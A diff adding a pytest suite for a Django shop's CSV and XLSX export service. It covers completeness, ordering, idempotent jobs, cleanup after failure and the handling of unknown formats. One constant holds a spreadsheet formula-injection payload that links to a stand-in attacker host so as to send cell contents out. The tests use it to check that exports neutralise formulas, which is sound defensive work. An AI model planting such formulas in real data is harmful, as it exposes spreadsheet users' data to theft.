@@ -1,0 +1,114 @@
+"""Exports read everything from the database, leave one whole file, and nothing when they do not end well."""
+
+from __future__ import annotations
+
+import csv
+import dataclasses
+import io
+import uuid
+
+import openpyxl
+import pytest
+from django.core.files.storage import default_storage
+
+from apps.product.exports import services
+from apps.product.exports.datasets import TABLES
+from apps.product.exports.models import Export
+from apps.product.exports.writers import CONTENT_TYPES
+from apps.product.shop.models import Customer
+from middleware.errors import PermanentFailure
+from tests.factories.shop import make_customer, make_invoice, make_payment
+
+pytestmark = pytest.mark.django_db
+EVIL = '=HYPERLINK("http://evil.example?x="&A1,"click")'
+
+
+def rows_of(result):
+    with default_storage.open(result["file"]) as file:
+        content = file.read()
+    if result["filename"].endswith(".csv"):
+        return [*csv.reader(io.StringIO(content.decode(), newline=""))]
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_every_dataset_is_exported_whole(file_format):
+    for _ in range(3):
+        make_payment(make_invoice())
+    make_payment(reference=EVIL)
+
+    results = [services.export(name, file_format, job_id=None) for name in ("customers", "invoices", "payments")]
+
+    assert [result["rows"] for result in results] == [4, 3, 4]
+    assert [len(rows_of(result)) for result in results] == [5, 4, 5]
+    assert {result["content_type"] for result in results} == {CONTENT_TYPES[file_format]}
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_what_a_customer_typed_is_no_formula(file_format):
+    make_customer(name=EVIL, company="＝1+1", email="eve@mail.example")
+
+    _, row = rows_of(services.export("customers", file_format, job_id=None))
+
+    assert row[1:4] == ["'" + EVIL, "'＝1+1", "eve@mail.example"]
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_more_rows_than_a_chunk_come_out_once_each_and_in_order(file_format):
+    Customer.objects.bulk_create(
+        Customer(name=f"Name {number}", email=f"c{number}@mail.example", country="DE") for number in range(1203)
+    )
+
+    result = services.export("customers", file_format, job_id=None)
+
+    ids = [int(row[0]) for row in rows_of(result)[1:]]
+    assert ids == list(Customer.objects.order_by("pk").values_list("pk", flat=True))
+
+
+def test_an_empty_shop_gives_a_file_with_a_heading():
+    (heading,) = rows_of(services.export("invoices", "csv", job_id=None))
+
+    assert heading == [column.title for column in TABLES["invoices"].columns]
+
+
+def test_a_repeated_run_of_a_job_hands_out_the_same_file(storage):
+    make_customer()
+    job_id = str(uuid.uuid4())
+
+    first = services.export("customers", "csv", job_id=job_id)
+    make_customer()
+    second = services.export("customers", "csv", job_id=job_id)
+
+    assert first == second
+    assert Export.objects.count() == 1
+    assert len([path for path in storage.rglob("*") if path.is_file()]) == 1
+
+
+def test_a_file_that_was_removed_is_written_anew():
+    job_id = str(uuid.uuid4())
+    first = services.export("customers", "csv", job_id=job_id)
+    default_storage.delete(first["file"])
+
+    second = services.export("customers", "csv", job_id=job_id)
+
+    assert default_storage.exists(second["file"])
+    assert Export.objects.get().file == second["file"]
+
+
+def test_a_failure_half_way_leaves_nothing_behind(storage, tmp_path, monkeypatch):
+    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
+    failing = (make_customer() if number == 0 else 1 / 0 for number in range(2))
+    monkeypatch.setitem(TABLES, "customers", dataclasses.replace(TABLES["customers"], rows=lambda: failing))
+
+    with pytest.raises(ZeroDivisionError):
+        services.export("customers", "xlsx", job_id=None)
+
+    assert list(tmp_path.iterdir()) == []
+    assert not Export.objects.exists()
+
+
+@pytest.mark.parametrize(("dataset", "file_format"), [("secrets", "csv"), ("invoices", "pdf")])
+def test_an_unknown_dataset_or_format_fails_for_good(dataset, file_format):
+    with pytest.raises(PermanentFailure, match="is not known"):
+        services.export(dataset, file_format, job_id=None)
